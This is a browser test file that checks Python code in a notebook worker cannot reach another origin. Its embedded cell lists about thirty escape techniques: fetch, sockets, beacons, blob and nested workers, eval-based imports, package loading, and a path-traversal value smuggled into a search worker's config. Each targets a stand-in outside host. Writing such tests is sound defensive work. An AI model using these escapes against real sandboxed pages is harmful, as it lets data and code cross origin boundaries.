"""Python in the worker reaches no other origin: by none of the ways that a browser's worker has."""

from __future__ import annotations

import json
import re

import pytest

from .visit import forget

pytestmark = pytest.mark.browser

# A notebook cell with everything that a hostile reader, or a hostile package, could type.
ESCAPES = '''
import asyncio, json, js, pyodide_js
from pyodide.ffi import create_once_callable, create_proxy, to_js
AT, SITE, SCRIPTS = "STRANGER/", "SITE/", json.loads('LIST')
came, tries = {}, {}
def attempt(function):
    tries[function.__name__] = function
def module(**more):
    return to_js({"type": "module", **more}, dict_converter=js.Object.fromEntries)
def blob(source):
    made = js.Blob.new(to_js([source]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
    return js.URL.createObjectURL(made)
def start(*words):
    """Start a worker; its error is its own, and does not end this one."""
    made = js.Worker.new(*words)
    made.onerror = create_proxy(lambda event: event.preventDefault())
    return made

@attempt
def fetch(): return js.fetch(AT + "fetch")
@attempt
def native_fetch(): return js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, AT + "native")
@attempt
def request(): return js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, js.Request.new(AT + "request"))
@attempt
def xhr():
    asked = js.XMLHttpRequest.new(); asked.open("GET", AT + "xhr", False); asked.send(); return asked.status
@attempt
def xhr_later():
    asked = js.XMLHttpRequest.new(); asked.open("POST", AT + "xhr-later"); asked.send("x")
@attempt
def websocket(): js.WebSocket.new(AT.replace("http", "ws") + "socket")
@attempt
def event_source(): js.EventSource.new(AT + "events")
@attempt
def web_transport(): return js.WebTransport.new("https" + AT[4:] + "transport").ready
@attempt
def import_scripts(): js.importScripts(AT + "scripts.js")
@attempt
def beacon(): js.navigator.sendBeacon(AT + "beacon")
@attempt
def evaluated(): return js.eval(f"import('{AT}evaluated.js')")
@attempt
def function(): return js.Function.new(f"return import('{AT}function.js')")()
@attempt
def run_js():
    from pyodide.code import run_js
    return run_js(f"import('{AT}run-js.js')")
@attempt
def timer(): js.setTimeout(f"import('{AT}timer.js')", 0)
@attempt
def font(): return js.FontFace.new("x", f"url({AT}font)").load()
@attempt
def cache(): return js.caches.open("x").then(create_once_callable(lambda cache: cache.add(AT + "cache")))
@attempt
def pyfetch():
    from pyodide.http import pyfetch
    return pyfetch(AT + "pyfetch")
@attempt
def open_url():
    from pyodide.http import open_url
    return open_url(AT + "open-url").read()
@attempt
def urllib():
    from urllib.request import urlopen
    return urlopen(AT + "urllib", timeout=1).read()
@attempt
def socket():
    import socket
    host, port = AT.split("/")[2].split(":")
    made = socket.create_connection((host, int(port)), timeout=1)
    made.send(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
@attempt
def package(): return pyodide_js.loadPackage(AT + "package-1.0-py3-none-any.whl")
@attempt
def worker(): start(AT + "worker.js")
@attempt
def module_worker(): start(AT + "module.js", module())
@attempt
def data_worker(): start(f"data:text/javascript,fetch('{AT}data')")
@attempt
def blob_worker(): start(blob(f"fetch('{AT}blob-fetch'); import('{AT}blob-import.js'); importScripts('{AT}blob-scripts.js')"))
@attempt
def blob_module(): start(blob(f"import '{AT}blob-static.js'"), module())
@attempt
def nested(): start(blob(f"new Worker(URL.createObjectURL(new Blob([`fetch('{AT}nested')`])))"))
@attempt
def own_scripts():
    """The site's own scripts, loaded by their addresses: such a worker has no policy, so it must do nothing for anybody."""
    for script in SCRIPTS:
        for base in (SITE, AT):
            befriend(start(SITE + script, module()), base)
def befriend(made, base):
    """Talk to a worker as our page does to its own."""
    def tell(**fields): made.postMessage(to_js({"v": 1, **fields}, dict_converter=js.Object.fromEntries))
    def heard(event):
        data = event.data.to_py() if hasattr(event.data, "to_py") else {}
        came.setdefault("own_scripts_said", []).append(str(data.get("type")))
        if data.get("type") == "ready":
            tell(type="cell", run=1, source=f"import js; js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, '{AT}own')", name="x")
    made.onmessage = create_proxy(heard)
    tell(type="boot", base=base + "assets/")
@attempt
def search():
    for script in SCRIPTS:
        if "/workers/" in script:
            made = start(SITE + script)
            for lang in ["/../../../../..//" + AT.split("/")[2] + "/search", AT + "search"]:
                made.postMessage(to_js({"type": 0, "data": {"config": {"lang": [lang, "de"], "separator": " "}, "docs": [], "options": {}}},
                                 dict_converter=js.Object.fromEntries))

async def all_of_them():
    for name, function in tries.items():
        try:
            came[name] = function()
            if hasattr(came[name], "then") or hasattr(came[name], "__await__"):
                came[name] = await asyncio.wait_for(came[name], 3)
            came[name] = "returned " + str(came[name])[:80]
        except BaseException as error:
            came[name] = f"{type(error).__name__}: {error}"[:120]
    came["finished"] = True
waiting = asyncio.ensure_future(all_of_them())
None
'''
WAYS = len(re.findall("^@attempt", ESCAPES, re.MULTILINE))


def run_cell(opened, source: str, seconds: float = 60) -> str:
    cell = opened.page.locator(".cell").first
    if not cell.locator("textarea").is_visible():
        cell.get_by_role("button", name="Edit", exact=True).click()
    cell.locator("textarea").fill(source)
    cell.get_by_role("button", name="Run", exact=True).click()
    opened.until(lambda: cell.get_attribute("data-state") in {"loading", "running", "done", "failed"})
    opened.until(lambda: cell.get_attribute("data-state") in {"done", "failed"}, seconds)
    assert cell.get_attribute("data-state") == "done", cell.inner_text()
    return cell.locator(".cell-output").inner_text()


@pytest.fixture
def tried(visit, stranger, site):
    """A function: try all ways out on a notebook page of the site at an address; what came of each."""
    found = [*site.folder.rglob("*.js")]
    scripts = json.dumps(
        [path.relative_to(site.folder).as_posix() for path in found if "lunr" not in path.parts]
    )

    def attempt(**where: str) -> dict[str, str]:
        opened = visit(**where)
        opened.go("demos/conv_walk/")
        source = (
            ESCAPES.replace("STRANGER/", stranger.url).replace("SITE/", opened.url).replace("LIST", scripts)
        )
        run_cell(opened, source)
        came = {}

        def finished() -> bool:
            came.update(json.loads(run_cell(opened, "print(json.dumps(came, default=str))")))
            return bool(came.pop("finished", False))

        opened.until(finished, 90)
        opened.page.wait_for_timeout(3000)  # for what was started and not waited for
        came.update(json.loads(run_cell(opened, "print(json.dumps(came, default=str))")))
        forget(opened)
        return came

    return attempt


def test_python_reaches_no_other_origin_by_any_way(tried, stranger):
    came = tried()
    assert len(came) >= WAYS
    assert stranger.hits == [], came
    assert "own_scripts_said" not in came, came["own_scripts_said"]
    for name in ("evaluated", "function", "run_js"):
        assert "EvalError" in came[name], came[name]


@pytest.mark.exhaustive
def test_without_the_policy_the_same_ways_lead_out(tried, stranger, unprotected):
    came = tried(url=unprotected)
    assert len({hit.split("/")[1] for hit in stranger.hits}) >= 12, (stranger.hits, came)
